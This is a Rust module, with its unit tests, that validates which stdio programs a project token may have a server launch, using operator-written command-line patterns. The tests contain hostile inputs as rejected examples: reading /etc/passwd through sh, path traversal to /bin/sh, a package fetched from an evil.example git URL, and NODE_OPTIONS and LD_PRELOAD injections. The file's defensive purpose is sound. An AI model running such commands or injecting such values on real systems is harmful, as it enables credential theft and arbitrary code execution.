//! Who may have this server start a program (`transport: "stdio"`).
//!
//! A program runs with the rights of the server, on the operator's machine. So a token that spans
//! projects may configure any program, and a token of one project only those that the operator's patterns
//! admit.

use std::collections::BTreeMap;

use uuid::Uuid;

use super::ServerSpec;
use crate::ids::TokenId;

/// In whose name a server is configured.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConfiguredBy {
    /// A token that spans projects, or a command on the data folder.
    Operator,
    /// This token, which is bound to one project.
    Project(TokenId),
}

impl ConfiguredBy {
    /// The token of one project; `None` for an operator. This is also the stored form.
    pub fn project_token(self) -> Option<TokenId> {
        match self {
            Self::Operator => None,
            Self::Project(token) => Some(token),
        }
    }
}

impl From<Option<TokenId>> for ConfiguredBy {
    fn from(project_token: Option<TokenId>) -> Self {
        project_token.map_or(Self::Operator, Self::Project)
    }
}

impl Default for ConfiguredBy {
    /// A token of one project that no secret comes from: whoever may do the least.
    fn default() -> Self {
        Self::Project(TokenId(Uuid::nil()))
    }
}

/// The operator's patterns of programs that projects may use.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProgramPatterns(Vec<ProgramPattern>);

#[derive(Debug, Clone, PartialEq, Eq)]
struct ProgramPattern {
    /// The names of variables that may be set. A variable can make a harmless program run anything
    /// (`NODE_OPTIONS`, `LD_PRELOAD`), so those that are not named are refused.
    env: Vec<String>,
    command: String,
    args: Vec<String>,
    /// The pattern ends with `**`: any further arguments are admitted.
    open_ended: bool,
}

impl ProgramPatterns {
    /// Patterns are separated by `;` or a line break. Each is written as the command line itself:
    /// variables first (`NAME=*`), then the command and its arguments. In the command and the arguments
    /// `*` stands for letters, digits, `-`, `_` and `.`, and a last `**` for any further arguments.
    pub fn parse(text: &str) -> Result<Self, String> {
        text.split([';', '\n'])
            .map(str::trim)
            .filter(|pattern| !pattern.is_empty())
            .map(parse_pattern)
            .collect::<Result<_, _>>()
            .map(Self)
    }

    /// Whether a server with this description may be configured. Only programs are in question.
    pub fn allow_spec(&self, spec: &ServerSpec, by: ConfiguredBy) -> bool {
        match (spec, by) {
            (ServerSpec::Stdio { command, args, env, .. }, ConfiguredBy::Project(_)) => {
                self.allow(command, args, env)
            }
            _ => true,
        }
    }

    fn allow(&self, command: &str, args: &[String], env: &BTreeMap<String, String>) -> bool {
        self.0.iter().any(|pattern| pattern.allows(command, args, env))
    }

    /// The variables because of which a program is refused whose command line is admitted: those that the pattern with
    /// the fewest of them does not name. Empty if its command line is refused whatever its variables are.
    pub fn refused_variables(&self, spec: &ServerSpec) -> Vec<String> {
        let ServerSpec::Stdio { command, args, env, .. } = spec else { return Vec::new() };
        let patterns = self.0.iter().filter(|pattern| pattern.allows_command(command, args));
        let unnamed = patterns.map(|pattern| {
            let names = env.keys().filter(|name| !pattern.env.contains(name));
            names.cloned().collect::<Vec<_>>()
        });
        unnamed.min_by_key(Vec::len).unwrap_or_default()
    }

    /// Completes an error about a program that is refused: what of it no pattern admits, if that is only a variable, and
    /// the pattern that would admit it. Empty where only the command line is to blame, which the error names.
    pub fn explain_variables(&self, spec: &ServerSpec) -> String {
        let (variables, command) = (self.refused_variables(spec), spec.command_line().unwrap_or_default());
        if variables.is_empty() {
            return String::new();
        }
        let names: Vec<_> = variables.iter().map(|name| format!("`{name}`")).collect();
        let (noun, verb) = if names.len() == 1 { ("variable", "is") } else { ("variables", "are") };
        let all = spec.env().keys().map(|name| format!("{name}=* ")).collect::<String>();
        format!(
            " (its command line is admitted there, and its {noun} {} {verb} not: the pattern needed is `{all}{command}`)",
            names.join(", ")
        )
    }
}

fn parse_pattern(text: &str) -> Result<ProgramPattern, String> {
    let mut words = split_words(text)?.into_iter().peekable();
    let mut env = Vec::new();
    while let Some(word) = words.next_if(|word| is_variable(word)) {
        let (name, value) = word.split_once('=').unwrap_or((&word, ""));
        if value != "*" {
            return Err(format!("in `{text}`: write `{name}=*`; the value of a variable is the project's"));
        }
        env.push(name.to_owned());
    }
    let command = words.next().ok_or_else(|| format!("`{text}` names no program"))?;
    let mut args: Vec<String> = words.collect();
    let open_ended = args.pop_if(|last| last == "**").is_some();
    // Elsewhere it would only stand for what `*` stands for, and admit less than it looks like.
    if std::iter::once(&command).chain(&args).any(|word| word.contains("**")) {
        return Err(format!(
            "in `{text}`: `**` stands for any further arguments, so it has to be the last word; elsewhere, `*` stands for \
             letters, digits, `-`, `_` and `.`"
        ));
    }
    Ok(ProgramPattern { env, command, args, open_ended })
}

/// Whether a word is `NAME=…`, as a shell would see it.
fn is_variable(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Splits at blanks; a word in double quotes may contain blanks.
fn split_words(text: &str) -> Result<Vec<String>, String> {
    let (mut words, mut word, mut quoted, mut started) = (Vec::new(), String::new(), false, false);
    for c in text.chars() {
        match c {
            '"' => (quoted, started) = (!quoted, true),
            c if c.is_whitespace() && !quoted => {
                if std::mem::take(&mut started) {
                    words.push(std::mem::take(&mut word));
                }
            }
            c => {
                word.push(c);
                started = true;
            }
        }
    }
    if quoted {
        return Err(format!("in `{text}`: a quote is not closed"));
    }
    if started {
        words.push(word);
    }
    Ok(words)
}

impl ProgramPattern {
    fn allows(&self, command: &str, args: &[String], env: &BTreeMap<String, String>) -> bool {
        self.allows_command(command, args) && env.keys().all(|name| self.env.contains(name))
    }

    /// Whether the command and its arguments match, whatever the variables are.
    fn allows_command(&self, command: &str, args: &[String]) -> bool {
        let enough =
            if self.open_ended { args.len() >= self.args.len() } else { args.len() == self.args.len() };
        enough
            && word_matches(&self.command, command)
            && self.args.iter().zip(args).all(|(pattern, arg)| word_matches(pattern, arg))
    }
}

/// Matches one word of a command line. A `*` does not match `/`, `@`, blanks or control characters: with
/// these, an argument would name another program or another package than the operator meant.
fn word_matches(pattern: &str, word: &str) -> bool {
    let Some((literal, rest)) = pattern.split_once('*') else { return pattern == word };
    let Some(tail) = word.strip_prefix(literal) else { return false };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    let plain = tail.find(|c| !is_plain(c)).unwrap_or(tail.len());
    (0..=plain).any(|at| word_matches(rest, &tail[at..])) && !word.contains("..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(patterns: &str, line: &str, expected: bool) {
        let mut words = split_words(line).unwrap().into_iter().peekable();
        let mut env = BTreeMap::new();
        while let Some(word) = words.next_if(|word| is_variable(word)) {
            let (name, value) = word.split_once('=').unwrap();
            env.insert(name.to_owned(), value.to_owned());
        }
        let command = words.next().unwrap();
        let args: Vec<String> = words.collect();
        let patterns = ProgramPatterns::parse(patterns).unwrap();
        assert_eq!(patterns.allow(&command, &args, &env), expected, "{patterns:?} {line}");
    }

    #[test]
    fn a_program_is_admitted_by_its_whole_command_line() {
        let patterns = "GITHUB_TOKEN=* npx -y @scope/server-github; uvx mcp-server-*\n/opt/tools/search **";
        check(patterns, "npx -y @scope/server-github", true);
        check(patterns, "GITHUB_TOKEN=x npx -y @scope/server-github", true);
        check(patterns, "npx -y @scope/server-other", false);
        check(patterns, "npx -y @scope/server-github --more", false);
        check(patterns, "npx", false);
        check(patterns, "uvx mcp-server-time", true);
        check(patterns, "uvx evil", false);
        check(patterns, "/opt/tools/search --any \"thing at all\"", true);
        check(patterns, "sh -c \"cat /etc/passwd\"", false);
        check("", "npx", false);
        check("/opt/mcp/* **", "/opt/mcp/search --fast", true);
        check("/opt/mcp/* **", "/opt/mcp/../../bin/sh -c id", false);
        check(patterns, "uvx \"mcp-server-x @ git+https://evil.example/x.git\"", false);
        check(patterns, "uvx mcp-server-x/../y", false);
    }

    #[test]
    fn a_variable_that_is_not_named_is_refused() {
        check("npx -y server", "NODE_OPTIONS=--require=/tmp/x npx -y server", false);
        check("TOKEN=* npx -y server", "TOKEN=a LD_PRELOAD=/tmp/x npx -y server", false);
    }

    #[test]
    fn a_program_that_is_refused_for_a_variable_is_explained_with_the_pattern_it_needs() {
        let spec = |args: &[&str], env: &[&str]| ServerSpec::Stdio {
            name: "time".to_owned(),
            description: String::new(),
            command: "uvx".to_owned(),
            args: args.iter().map(|&arg| arg.to_owned()).collect(),
            env: env.iter().map(|&name| (name.to_owned(), "x".to_owned())).collect(),
        };
        let patterns =
            ProgramPatterns::parse("uvx mcp-server-time==2025.9.25; HOST=* uvx mcp-server-*").unwrap();
        let told = patterns.explain_variables(&spec(&["mcp-server-time==2025.9.25"], &["TZ"]));
        assert!(told.contains("its variable `TZ` is not"), "{told}");
        assert!(told.contains("`TZ=* uvx mcp-server-time==2025.9.25`"), "{told}");
        let told = patterns.explain_variables(&spec(&["mcp-server-git"], &["A", "B", "HOST"]));
        assert!(told.contains("its variables `A`, `B` are not"), "{told}");
        assert!(told.contains("`A=* B=* HOST=* uvx mcp-server-git`"), "{told}");
        assert_eq!(patterns.explain_variables(&spec(&["evil"], &["TZ"])), "", "its arguments are refused");
        assert_eq!(ProgramPatterns::default().explain_variables(&spec(&[], &["TZ"])), "");
    }

    #[test]
    fn two_stars_that_are_not_the_last_word_are_refused_with_the_pattern_and_the_reason() {
        for wrong in ["npx ** --verbose", "** server", "**", "/opt/**/search", "npx -y server-** **"] {
            let told = ProgramPatterns::parse(&format!("uvx mcp-server-time; {wrong}")).unwrap_err();
            assert!(told.starts_with(&format!("in `{wrong}`: `**` stands for")), "{told}");
            assert!(told.contains("has to be the last word"), "{told}");
        }
        assert!(ProgramPatterns::parse("/opt/mcp/* **; npx -y server **").is_ok());
    }

    #[test]
    fn a_pattern_that_cannot_be_meant_is_refused() {
        for wrong in ["TOKEN=* ", "npx \"-y", "TOKEN=value npx"] {
            assert!(ProgramPatterns::parse(wrong).is_err(), "{wrong}");
        }
    }
}
